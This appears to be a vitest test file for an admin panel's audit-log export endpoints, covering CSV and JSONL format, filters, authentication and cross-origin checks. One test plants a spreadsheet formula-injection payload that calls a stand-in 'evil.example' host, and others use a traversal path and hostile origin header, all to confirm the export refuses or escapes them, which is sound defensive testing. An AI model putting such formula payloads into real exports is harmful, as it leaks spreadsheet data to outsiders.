import { get } from 'node:http';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { AuditEntry, bySystem, recordAudit, type User } from '@ai-providers/db';
import { openTestServer, type TestServer } from '../../testing/test-server.js';

let server: TestServer;
let superAdmin: { user: User; cookie: string };
let normal: { user: User; cookie: string };
beforeAll(async () => {
  server = await openTestServer({ now: () => new Date('2026-05-03T10:00:00Z') });
  superAdmin = await server.signIn({ isSuperuser: true });
  normal = await server.signIn();
});
afterAll(() => server.close());

interface Options {
  cookie?: string;
  headers?: Record<string, string>;
  method?: string;
}

async function download(target: string, { cookie, headers = {}, method = 'GET' }: Options = {}) {
  const response = await fetch(`${server.url}/exports/${target}`, {
    method,
    headers: { ...(cookie !== undefined && { cookie }), ...headers },
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
}
const asSuper = (target: string) => download(target, { cookie: superAdmin.cookie });
const rowsOf = (text: string) =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line): { sequence: string; action: string; actor: { publicId: string | null } } => JSON.parse(line));
const reasonOf = (text: string): unknown => JSON.parse(text).error.data.reason;
const write = (label: string, count = 1) =>
  Promise.all(
    Array.from({ length: count }, () =>
      recordAudit(bySystem, { action: 'provider.update', target: { type: 'provider', publicId: null, label } }),
    ),
  );

describe('/exports/audit.csv', () => {
  it('is a dated file in UTF-8 that no cache keeps', async () => {
    const { status, headers, bytes } = await asSuper('audit.csv');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="audit-2026-05-03.csv"');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has machine names above ISO times and plain numbers', async () => {
    const [head, first] = (await asSuper('audit.csv?action=auth.login')).text.split('\r\n');
    expect(head).toBe(
      '\ufeffsequence,occurredAt,action,actorId,actor,targetType,targetId,target,changes,via,ip,userAgent,requestId',
    );
    expect(first).toMatch(/^\d+,2026-05-03T10:00:00\.000Z,auth\.login,/);
    expect(first).toContain(normal.user.publicId);
  });

  it.each([
    ['en', 'Number,Time,Event,'],
    ['fa', 'شماره,زمان,رویداد,'],
    ['names', 'sequence,occurredAt,action,'],
  ])('has a header in %s, after the mark, where it is asked for', async (header, start) => {
    const [head, first] = (await asSuper(`audit.csv?header=${header}&action=auth.login`)).text.split('\r\n');
    expect(head?.startsWith(`\ufeff${start}`)).toBe(true);
    expect(first).toMatch(/^\d+,2026-05-03T10:00:00\.000Z,auth\.login,/); // times and numbers are no words
  });

  it('refuses a header that no file has, by its field', async () => {
    const { status, text } = await asSuper('audit.csv?header=de');
    expect(status).toBe(400);
    expect(Object.keys(JSON.parse(text).error.data.fieldErrors)).toEqual(['header']);
  });

  it('holds no cell that a spreadsheet would run', async () => {
    await write('=HYPERLINK("https://evil.example?"&A1,"click")');
    const { text } = await asSuper('audit.csv?action=provider.update');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""click"")"`);
    expect(text).not.toMatch(/(^|[,;"])[=+@]/m);
  });
});

describe('/exports/audit.jsonl', () => {
  it('has each entry as the list shows it, without a mark before the first', async () => {
    const { text, headers } = await asSuper('audit.jsonl');
    expect(headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
    expect(headers.get('content-disposition')).toContain('audit-2026-05-03.jsonl');
    const listed = await server.call('audit.list', { cookie: superAdmin.cookie, input: { pageSize: 100 } });
    expect(rowsOf(text)).toEqual(listed.body.result.data.items);
  });

  it('goes on past the first page to the first entry', async () => {
    await write('one of many', 230);
    const sequences = rowsOf((await asSuper('audit.jsonl')).text).map(({ sequence }) => Number(sequence));
    expect(sequences).toEqual(Array.from({ length: sequences.length }, (_, index) => sequences.length - index));
    expect(sequences.length).toBeGreaterThan(230);
  });

  it('takes the filters of the list, one action or several', async () => {
    const both = rowsOf((await asSuper('audit.jsonl?action=auth.login&action=auth.logout')).text);
    expect(both.map(({ action }) => action)).toEqual(['auth.login', 'auth.login']);
    expect(rowsOf((await asSuper(`audit.jsonl?actor=${normal.user.publicId}`)).text)).toHaveLength(1);
    expect((await asSuper('audit.jsonl?to=2020-01-01T00:00:00Z')).text).toBe('');
  });

  it.each(['action=provider.steal', 'actor=1', 'from=yesterday', 'unknown=1', 'via=post', 'actor=a&actor=b'])(
    'refuses %s, as the list does',
    async (query) => {
      const { status, text, headers } = await asSuper(`audit.jsonl?${query}`);
      expect([status, reasonOf(text)]).toEqual([400, 'VALIDATION_FAILED']);
      expect(headers.get('content-disposition')).toBeNull();
    },
  );
});

describe('who may download', () => {
  it('is nobody without a session or a token', async () => {
    const strangers: Record<string, string>[] = [
      {},
      { authorization: 'Bearer nonsense' },
      { cookie: 'session=nonsense' },
    ];
    for (const headers of strangers) {
      const { status, text } = await download('audit.csv', { headers });
      expect([status, reasonOf(text)]).toEqual([401, 'UNAUTHENTICATED']);
    }
  });

  it('is a program with the scope admin, and no other', async () => {
    const authorization = async (scope: 'admin' | 'registry:read') =>
      `Bearer ${await server.tokenFor(superAdmin.user, [scope])}`;
    expect((await download('audit.csv', { headers: { authorization: await authorization('admin') } })).status).toBe(
      200,
    );
    const refused = await download('audit.csv', { headers: { authorization: await authorization('registry:read') } });
    expect([refused.status, reasonOf(refused.text)]).toEqual([403, 'SCOPE_MISSING']);
  });

  it('is a normal admin for their own deeds, whatever they ask for', async () => {
    for (const query of ['', `?actor=${normal.user.publicId}`]) {
      const rows = rowsOf((await download(`audit.jsonl${query}`, { cookie: normal.cookie })).text);
      expect(rows.map(({ actor }) => actor.publicId)).toEqual([normal.user.publicId]);
    }
    const others = await download(`audit.jsonl?actor=${superAdmin.user.publicId}`, { cookie: normal.cookie });
    expect([others.status, others.text]).toEqual([200, '']);
  });

  it.each<[string, Record<string, string>]>([
    ['another site', { 'sec-fetch-site': 'cross-site' }],
    ['a sister site', { 'sec-fetch-site': 'same-site' }],
    ['a script of another origin', { origin: 'https://evil.example' }],
  ])('is not %s by way of a signed-in browser', async (_who, headers) => {
    const { status, text } = await download('audit.csv', { cookie: superAdmin.cookie, headers });
    expect([status, reasonOf(text)]).toEqual([403, 'CROSS_ORIGIN']);
  });

  it('is the panel itself, and an address that somebody typed', async () => {
    for (const site of ['same-origin', 'none'])
      expect(
        (await download('audit.csv', { cookie: superAdmin.cookie, headers: { 'sec-fetch-site': site } })).status,
      ).toBe(200);
  });
});

describe('an address of an export', () => {
  it.each(['users.csv', 'audit.xlsx', 'audit', 'audit.csv/', 'Audit.csv', '..%2ftrpc%2faudit.list', 'toString.csv'])(
    'is unknown as %s',
    async (target) => {
      expect((await asSuper(target)).status).not.toBe(200);
    },
  );

  it('is for reading only', async () => {
    expect((await download('audit.csv', { cookie: superAdmin.cookie, method: 'POST' })).status).toBe(404);
    const head = await download('audit.csv', { cookie: superAdmin.cookie, method: 'HEAD' });
    expect([head.status, head.text]).toEqual([200, '']);
  });
});

describe('a download', () => {
  it('that is broken off reads no further, and disturbs nothing', async () => {
    // Much more than the buffers between here and there hold.
    const label = 'x'.repeat(250);
    const changes = [{ field: 'name', to: 'y'.repeat(20_000) }];
    const [newest] = await AuditEntry.findAll({ order: [['id', 'DESC']], limit: 1 });
    const entry = { ...newest?.get({ plain: true }), targetLabel: label, changes };
    const { publicId: _own, ...copied } = entry;
    // 2 MB at a time: all at once is 40, too much for one statement's time.
    for (let id = 10_000; id < 12_000; id += 100) {
      const rows = Array.from({ length: 100 }, (_, index) => ({ ...copied, id: String(id + index) }));
      await AuditEntry.bulkCreate(rows as never[]); // all but the two ids is of a real row
    }
    const findAll = vi.spyOn(AuditEntry, 'findAll');
    await new Promise<void>((resolve) => {
      const request = get(`${server.url}/exports/audit.csv`, { headers: { cookie: superAdmin.cookie } }, (response) => {
        response.once('data', () => response.destroy());
        response.once('close', resolve);
      });
      request.once('error', () => undefined);
    });
    const whole = rowsOf((await asSuper('audit.jsonl')).text);
    expect(whole.length).toBeGreaterThan(2000);
    const pages = Math.ceil((whole.length + 1) / 100);
    expect(findAll.mock.calls.length).toBeLessThan(2 * pages);
    findAll.mockRestore();
  });

  it('that fails on the way is cut short, so that nobody takes it for whole', async () => {
    const original = AuditEntry.findAll.bind(AuditEntry);
    const findAll = vi.spyOn(AuditEntry, 'findAll').mockImplementationOnce((options) => original(options));
    findAll.mockRejectedValueOnce(new Error('the disk is gone'));
    await expect(asSuper('audit.jsonl')).rejects.toThrow();
    findAll.mockRestore();
    expect(server.logged.filter((line) => line.includes('procedure failed'))).toHaveLength(1);
    expect(server.logged.join()).not.toContain('the disk is gone');
  });

  it('that fails at once is answered as any other failure', async () => {
    const findAll = vi.spyOn(AuditEntry, 'findAll').mockRejectedValueOnce(new Error('the disk is gone'));
    const { status, text } = await asSuper('audit.csv');
    findAll.mockRestore();
    expect([status, reasonOf(text)]).toEqual([500, 'INTERNAL']);
    expect(text).not.toContain('disk');
  });
});
